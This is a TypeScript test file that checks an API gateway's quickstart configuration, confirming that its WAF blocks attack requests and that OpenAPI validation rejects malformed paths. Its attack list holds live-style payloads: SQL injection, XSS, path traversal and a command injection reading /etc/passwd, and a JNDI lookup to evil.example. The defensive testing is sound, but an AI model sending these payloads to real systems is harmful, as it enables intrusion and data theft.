/**
 * The embedded default (examples/quickstart.yaml) protects out of the box: its policies, loaded
 * from the example file itself, in front of a test upstream — SQL injection, XSS, path traversal,
 * command injection and JNDI lookups refused by the WAF's built-in profile, requests that break
 * the OpenAPI document refused by validation, ordinary traffic passed.
 */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { after, before, test } from 'node:test'
import { request } from 'undici'
import { parse } from 'yaml'
import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'

const EXAMPLES = resolve(import.meta.dirname, '../../examples')
let upstream: TestUpstream
let gw: TestGateway

before(async () => {
  upstream = await startUpstream()
  const example = parse(readFileSync(join(EXAMPLES, 'quickstart.yaml'), 'utf8')) as { apis: { openapi: string; upstream: Record<string, unknown>; routes: unknown }[] }
  const api = example.apis[0]
  assert.ok(api !== undefined)
  // The example's API with its own policies; only where it listens and what it proxies to change.
  const config = baseConfig(upstream.url)
  config.apis = [{ ...api, openapi: join(EXAMPLES, api.openapi), upstream: { ...api.upstream, url: upstream.url }, routes: {} }]
  gw = await startTestGateway(config)
})
after(async () => {
  await gw?.stop()
  await upstream?.close()
})

const call = async (method: string, path: string, init: { headers?: Record<string, string>; body?: string } = {}) => {
  const response = await request(`${gw.url}${path}`, { method: method as 'GET', headers: init.headers, body: init.body })
  const text = await response.body.text()
  return { status: response.statusCode, code: response.statusCode >= 400 ? (JSON.parse(text) as { code: string }).code : null }
}

test('attacks are refused by the built-in WAF profile', async () => {
  const attacks: [string, string, { headers?: Record<string, string>; body?: string }][] = [
    ['GET', `/orders/v1/orders?q=${encodeURIComponent("1' OR '1'='1")}`, {}],
    ['GET', `/orders/v1/orders?q=${encodeURIComponent('<script>alert(1)</script>')}`, {}],
    ['GET', '/orders/v1/orders?file=..%2F..%2Fetc%2Fpasswd', {}],
    ['GET', `/orders/v1/orders?host=${encodeURIComponent('x; cat /etc/passwd')}`, {}],
    ['GET', '/orders/v1/orders', { headers: { 'user-agent': '${jndi:ldap://evil.example/x}' } }],
  ]
  for (const [method, path, init] of attacks) assert.deepEqual(await call(method, path, init), { status: 403, code: 'GW_ERR_WAF_BLOCKED' }, path)
})

test('requests that break the OpenAPI document are refused by validation; ordinary ones pass', async () => {
  assert.deepEqual(await call('GET', '/orders/v1/orders/abc'), { status: 400, code: 'GW_ERR_REQUEST_INVALID' })
  assert.equal((await call('GET', '/orders/v1/orders')).status, 200)
  assert.equal((await call('GET', '/orders/v1/orders/42')).status, 200)
})
